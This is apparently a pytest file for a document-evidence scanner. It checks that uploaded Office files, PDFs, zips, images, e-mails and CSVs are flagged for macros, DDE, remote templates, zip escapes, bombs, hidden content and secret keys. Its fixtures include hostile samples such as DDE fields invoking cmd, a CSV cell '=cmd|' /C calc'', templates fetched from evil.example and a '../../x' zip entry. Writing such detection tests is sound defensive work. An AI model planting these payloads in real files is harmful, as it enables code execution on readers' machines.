"""What files of evidence carry, case by case under the ids of the bad inputs (E05 to E25)."""

import pytest
from evidence_samples import (
    DRAWING,
    SHEET,
    SLIDE,
    bomb,
    docx,
    encrypted_office,
    encrypted_zip,
    exif,
    jpeg,
    pdf,
    png,
    pptx,
    relations,
    xlsx,
    zipped,
)

from certfolio.evidence_scan.scan import scan

DDE_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r>'
    "<w:r><w:instrText>AUTO c:\\\\x.exe</w:instrText></w:r></w:p>"
)
MAIL = (
    b"From: a@kelvenbrook.example\nTo: b@meridale.example\nBcc: c@other.example\n"
    b"Received: from srv-17.intern\nMIME-Version: 1.0\n"
    b"Content-Type: multipart/mixed; boundary=B\n\n"
    b'--B\nContent-Type: text/html\n\n<p><img src="https://t.example/p.gif"></p>\n'
    b'--B\nContent-Type: image/png\nContent-Disposition: attachment; filename="plan.png"\n'
    b"Content-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--B--\n"
)
EVIL_LINK = (
    f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'
)


def found(name: str, data: bytes, *, allows_macros: bool = False) -> list[str]:
    """Return the findings as a person reads them, with the name of their kind."""
    return [
        f"{finding.kind.weight.value} {finding.kind.name}: {finding.said}"
        + (f" <{finding.inside}>" if finding.inside else "")
        for finding in scan(name, data, allows_macros=allows_macros)
    ]


CASES = [
    ("E05 empty", "a.txt", b"", ["unsafe empty: It has no bytes."]),
    (
        "E07 sparse",
        "a.txt",
        b"x" + b"\0" * 100_000,
        [
            'unsafe refused: "a.txt" is not text in any encoding.',
            "look binary-in-text: It holds bytes that are no text.",
            "look zeros: More than half of it is zeros.",
        ],
    ),
    (
        "E09 a page",
        "a.html",
        b"<html>",
        ['unsafe refused: "a.html" can run scripts in the reader\'s browser.'],
    ),
    (
        "E10 entities in an Office file",
        "a.docx",
        docx(docProps__core_DOT_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        ["unsafe entities: A part declares a document type."],
    ),
    (
        "E10 entities where nothing else is looked at",
        "a.docx",
        docx(word__theme_DOT_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        ["unsafe entities: A part declares a document type."],
    ),
    (
        "E11 macros under an innocent name",
        "a.docx",
        docx(word__vbaProject_DOT_bin="x"),
        ["unsafe macros: It holds macros.", 'unsafe refused: "a.docx" holds macros.'],
    ),
    (
        "E11 a macro part under another name",
        "a.docx",
        docx(word___rels__document_DOT_xml_DOT_rels=relations(("vbaProject", "data.bin"))),
        [
            "unsafe macros: It holds macros.",
            'unsafe refused: "a.docx" holds macros.',
            "look external-link: It reads from data.bin.",
        ],
    ),
    (
        "E11 Excel 4 macros",
        "a.xlsx",
        xlsx(xl__macrosheets__sheet1_DOT_xml="<x/>"),
        [
            "unsafe macros: It holds Excel 4 macros.",
            'unsafe refused: "a.xlsx" holds Excel 4 macros.',
        ],
    ),
    (
        "E11 a binary workbook",
        "a.xlsx",
        xlsx(xl__workbook_DOT_bin="x"),
        [
            "unsafe macros: It is a binary workbook, which can hold macros unseen.",
            'unsafe refused: "a.xlsx" is a binary workbook, which can hold macros unseen.',
        ],
    ),
    (
        "E12 DDE in a document, cut in two",
        "a.docx",
        docx(DDE_FIELD),
        ["unsafe dde: A field in word/document.xml calls another program."],
    ),
    (
        "E12 DDE spelled in numbers",
        "a.docx",
        docx("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"),
        ["unsafe dde: A field in word/document.xml calls another program."],
    ),
    (
        "E12 DDE in a workbook",
        "a.xlsx",
        xlsx(xl__externalLinks__externalLink1_DOT_xml=EVIL_LINK),
        ["unsafe dde: A cell asks the program “cmd”."],
    ),
    (
        "E12 remote template",
        "a.docx",
        docx(
            word___rels__settings_DOT_xml_DOT_rels=relations(
                ("attachedTemplate", "https://evil.example/t.dotm")
            )
        ),
        ["unsafe remote-template: It fetches from evil.example."],
    ),
    (
        "E12 remote template on a server of Windows",
        "a.docx",
        docx(
            word___rels__settings_DOT_xml_DOT_rels=relations(
                ("attachedTemplate", "\\\\srv-17\\t.dotm")
            )
        ),
        ["unsafe remote-template: It fetches from srv-17."],
    ),
    (
        "E12 a template of one's own computer",
        "a.docx",
        docx(
            word___rels__settings_DOT_xml_DOT_rels=relations(
                ("attachedTemplate", "file:///C:/Users/ada/Normal.dotm")
            )
        ),
        ["look external-link: It reads from file:///C:/Users/ada/Normal.dotm."],
    ),
    (
        "E12 a field that fetches",
        "a.docx",
        docx('<w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/x.png"/>'),
        ["unsafe remote-template: A field in word/document.xml fetches a file."],
    ),
    (
        "E12 links and objects",
        "a.xlsx",
        xlsx(
            xl___rels__workbook_DOT_xml_DOT_rels=relations(
                ("externalLinkPath", "prices.xlsx"), ("hyperlink", "mailto:a@b.example")
            ),
            xl__embeddings__oleObject1_DOT_bin="x",
        ),
        [
            "look embedded-object: It holds 1 embedded file: oleobject1.bin.",
            "look external-link: It reads from prices.xlsx.",
            "note web-link: 1 link leads to b.example.",
        ],
    ),
    (
        "E12 a formula that calls, a connection",
        "a.xlsx",
        xlsx(sheet='<f>WEBSERVICE("https://x.example")</f>', xl__connections_DOT_xml="<x/>"),
        [
            "look external-link: Formulas on 1 sheet call an address.",
            "look external-link: It is connected to a database or another source.",
        ],
    ),
    (
        "E13 JavaScript",
        "a.pdf",
        pdf("<< /OpenAction << /S /JavaScript /JS (app.alert) >> >>"),
        ["unsafe pdf-javascript: It holds JavaScript."],
    ),
    (
        "E13 JavaScript in disguise",
        "a.pdf",
        pdf("<< /S /J#61vaScript >>"),
        ["unsafe pdf-javascript: It holds JavaScript."],
    ),
    (
        "E13 launch and attachment in a packed object",
        "a.pdf",
        pdf(packed="<< /S /Launch >> << /Type /EmbeddedFile >>"),
        [
            "unsafe pdf-launch: An action in it starts a program.",
            "look pdf-attachment: It holds 1 attached file.",
        ],
    ),
    (
        "E13 a form, a film, other files, an address",
        "a.pdf",
        pdf("<< /S /SubmitForm >>", "<< /RichMedia 1 >>", "<< /S /GoToR >>")
        + b"<< /URI (https://intern.example/x) >>",
        [
            "unsafe pdf-submit: A form in it sends or fetches data.",
            "look pdf-media: It holds a film, sound or a 3D model.",
            "look pdf-remote: A link in it opens another file.",
            "note pdf-web-link: 1 link leads to intern.example.",
        ],
    ),
    (
        "E13 an object that hides in a stream",
        "a.pdf",
        pdf() + b"9 0 obj << /Length 9 >> stream\n<< /S /Launch >> endstream",
        ["unsafe pdf-launch: An action in it starts a program."],
    ),
    (
        "E14 PDF",
        "a.pdf",
        pdf(trailer="/Encrypt 5 0 R"),
        ["locked encrypted: It is encrypted, with or without a password."],
    ),
    (
        "E14 Office",
        "a.docx",
        encrypted_office(),
        ["locked encrypted: It opens with a password only."],
    ),
    ("E14 zip", "a.zip", encrypted_zip(), ["locked encrypted: Under a password: plan.txt."]),
    (
        "E14 packed as nobody expects",
        "a.pdf",
        pdf()
        + b"9 0 obj << /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >> stream\nx endstream",
        ["locked unreadable: 1 packed part cannot be read."],
    ),
    (
        "E15 a page called PDF",
        "report.pdf",
        b"<html>",
        ['unsafe refused: "report.pdf" is a web page or other markup.'],
    ),
    (
        "E15 a picture and a zip",
        "a.png",
        png() + zipped({"a.exe": "MZ"}),
        [
            'unsafe refused: "a.png" is also a zip file.',
            "look picture-behind: 112 bytes lie behind its end.",
        ],
    ),
    (
        "E16 a program",
        "a.lnk",
        b"L\0",
        ['unsafe refused: "a.lnk" is a kind of file that can start programs.'],
    ),
    (
        "E17 slip, programs, nesting",
        "a.zip",
        zipped({"../../x": "", "b.exe": "MZ", "con.txt": "", "in.zip": zipped({"a.csv": "=1+1"})}),
        [
            "unsafe zip-escape: 1 entry leads out of it: ../../x.",
            "unsafe zip-program: It holds b.exe.",
            "look table-formula: 1 cell is a formula to a spreadsheet. <in.zip/a.csv>",
            "look zip-names: These do not unpack everywhere: con.txt.",
            "look zip-nested: It holds in.zip.",
        ],
    ),
    (
        "E18 GPS, author, serial number",
        "a.jpg",
        jpeg((0xE1, exif(artist="Ada", serial="12345678", has_position=True, has_preview=True))),
        [
            "look picture-position: It tells where it was taken.",
            "note picture-author: It names “Ada”.",
            "note picture-device: It tells the serial number of the camera.",
            "note picture-preview: It carries a small picture of itself.",
        ],
    ),
    (
        "E18 text chunks",
        "a.png",
        png(2, 2, (b"tEXt", b"Author\0Ada"), (b"zTXt", b"Comment\0\0x")),
        [
            "note picture-author: It names “Ada”.",
            "note picture-text: It holds the texts Author, Comment.",
        ],
    ),
    (
        "E18 a photo inside a document",
        "a.docx",
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": "<w/>",
                "word/media/image1.jpg": jpeg((0xE1, exif(has_position=True))),
            }
        ),
        ["look picture-position: It tells where it was taken. <word/media/image1.jpg>"],
    ),
    (
        "E19 tracked changes, hidden text",
        "a.docx",
        docx(
            '<w:ins w:author="Ada"><w:r/></w:ins><w:del w:author="Ben"/>'
            "<w:r><w:rPr><w:vanish/></w:rPr></w:r>"
        ),
        [
            "look hidden-text: 1 piece of text is hidden.",
            "look tracked-changes: 2 changes are tracked, by Ada, Ben.",
        ],
    ),
    (
        "E19 hidden sheets, rows, columns",
        "a.xlsx",
        xlsx(
            '<sheet name="A"/><sheet name="B" state="hidden"/><sheet name="C" state="veryHidden"/>',
            '<cols><col min="2" max="3" hidden="1"/></cols><row hidden="1"/>',
        ),
        [
            "look hidden-cells: 1 row is hidden.",
            "look hidden-cells: 2 columns are hidden.",
            "look hidden-sheet: 1 sheet is hidden: B.",
            "look very-hidden-sheet: 1 sheet is hidden: C.",
        ],
    ),
    (
        "E19 slides",
        "a.pptx",
        pptx(
            'show="0"',
            ppt__notesSlides__notesSlide1_DOT_xml=f'<n xmlns:a="{DRAWING}"><a:t>Say it</a:t></n>',
            ppt__commentAuthors_DOT_xml=f'<a xmlns="{SLIDE}"><cmAuthor name="Ada"/></a>',
            ppt__comments__comment1_DOT_xml=f'<a xmlns="{SLIDE}"><cm authorId="0"/></a>',
        ),
        [
            "look comments: 1 comment, by Ada.",
            "look hidden-slide: 1 slide is hidden.",
            "look speaker-notes: 1 slide has notes.",
        ],
    ),
    (
        "E19 an OpenDocument table",
        "a.ods",
        zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": '<x xmlns:t="t"><t:style t:name="s1"><t:table-properties'
                ' t:display="false"/></t:style><t:table t:name="Costs" t:style-name="s1">'
                '<t:table-row t:visibility="collapse"/></t:table></x>',
                "meta.xml": '<x xmlns:m="m"><m:initial-creator>Ada</m:initial-creator></x>',
            }
        ),
        [
            "look hidden-cells: 1 row is hidden.",
            "look hidden-sheet: 1 sheet is hidden: Costs.",
            "note author: Its author is “Ada”.",
        ],
    ),
    (
        "E19 earlier states of a PDF",
        "a.pdf",
        pdf(
            "<< /Subtype /Square >>", "<< /Subtype /Redact >>", info="/Author (J\\366rg)", states=3
        ),
        [
            "unsafe pdf-redaction: Text is marked for redaction and still there.",
            "look pdf-annotations: 1 note or drawing.",
            "look pdf-revisions: 2 earlier states lie below the present one.",
            "note pdf-author: Its author is “Jörg”.",
        ],
    ),
    (
        "E20 an e-mail",
        "a.eml",
        MAIL,
        [
            "look mail-attachments: It has 1 attachment: plan.png.",
            "look mail-blind-copy: It names receivers of blind copies.",
            "look mail-remote: Its text fetches pictures from other computers.",
            "look picture-cut-off: Its end is missing. <plan.png>",
            "note mail-addresses: 3 addresses, at kelvenbrook.example, meridale.example,"
            " other.example.",
            "note mail-route: It tells of 1 computer it passed.",
        ],
    ),
    (
        "E21 formulas and commands, no numbers",
        "a.csv",
        b"a,b\n=cmd|' /C calc'!A0,-1.5\n@SUM(1),+49 30 901\n=1+1,-\n",
        [
            "unsafe table-command: 1 cell is a command.",
            "look table-formula: 2 cells are formulas to a spreadsheet.",
        ],
    ),
    (
        "E21 another separator",
        "a.csv",
        b"a;b\n1,5;2\n3,5;4\n7;8\n",
        ["note table-separator: Its cells are not separated as .csv says."],
    ),
    (
        "E21 a million rows",
        "a.csv",
        b"1\n" * 1_100_000,
        ["look table-long: It has more than 1048576 rows."],
    ),
    (
        "E22 a picture of 65,535 by 65,535",
        "a.png",
        png(65_535, 65_535),
        ["unsafe picture-bomb: It says it has 65535 by 65535 pixels."],
    ),
    ("E22 cut off", "a.png", png(ending=False), ["look picture-cut-off: Its end is missing."]),
    (
        "E23 UTF-16",
        "a.txt",
        "Prüfung".encode("utf-16"),
        ["note text-encoding: It is written in UTF-16."],
    ),
    (
        "E23 Latin-1",
        "a.txt",
        "Prüfung".encode("latin-1"),
        ["note text-encoding: It is not UTF-8, most likely Windows-1252 or Latin-1."],
    ),
    ("E23 CRLF", "a.txt", b"one\r\ntwo\r\n", []),
    ("E23 codes", "a.log", b"\x1b[31mred", ["look terminal-codes: It holds 1 code."]),
    (
        "E23 order turned around",
        "a.txt",
        "invoice \u202efdp.exe".encode(),
        ["look deceiving-characters: It holds 1 such sign."],
    ),
]


@pytest.mark.parametrize(
    ("name", "data", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_a_file_carries(name: str, data: bytes, expected: list[str]) -> None:
    assert found(name, data) == expected


def test_e11_macros_that_a_record_allows_are_said_and_stop_nothing() -> None:
    data = zipped({"[Content_Types].xml": "", "xl/workbook.xml": "<x/>", "xl/vbaProject.bin": "x"})
    assert found("a.xlsm", data, allows_macros=True) == ["look macros-allowed: It holds macros."]
    assert found("a.xlsm", data) == [
        "unsafe macros: It holds macros.",
        'unsafe refused: "a.xlsm" is a kind of file that can hold macros.',
    ]


def test_e17_a_bomb_is_flagged_and_does_not_go_off() -> None:
    said = found("a.zip", bomb())
    assert said[0] == "unsafe zip-bomb: It unpacks to 300 MB."


def test_e19_what_was_blacked_out_in_a_picture_is_not_looked_for() -> None:
    assert found("a.png", png()) == []


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r"),
        ("AWS access key", "AKIAIOSFODNN7EXAMPLE"),
        ("GitHub token", "ghp_" + "a1B2" * 9),
        ("Slack token", "xoxb-1234567890-abcdef"),
        ("signed token (JWT)", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.x"),
    ],
)
@pytest.mark.parametrize("name", ["a.txt", "a.docx", "a.zip", "a.eml"])
def test_e24_a_key_is_named_by_its_rule_and_never_shown(name: str, rule: str, text: str) -> None:
    made = {
        "a.txt": text.encode(),
        "a.docx": docx(f"<w:t>{text}</w:t>"),
        "a.zip": zipped({"id_rsa": text}),
        "a.eml": f"Subject: x\n\n{text}\n".encode(),
    }
    inside = " <id_rsa>" if name == "a.zip" else ""
    said = found(name, made[name])
    assert said == [f"unsafe secret-key: Found by the rule: {rule}.{inside}"]
    assert text[10:20] not in "".join(said)


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("Password: hunter2x!", "password"),
        ("https://ada:geheim1@intern.example/", "address with a password"),
        ("Password: at least twelve characters", None),
        ("The secret: keep calm and carry on", None),
    ],
)
def test_e24_passwords_and_what_only_speaks_of_them(text: str, rules: str | None) -> None:
    expected = [] if rules is None else [f"look password: Found by the rule: {rules}."]
    assert found("a.txt", text.encode()) == expected
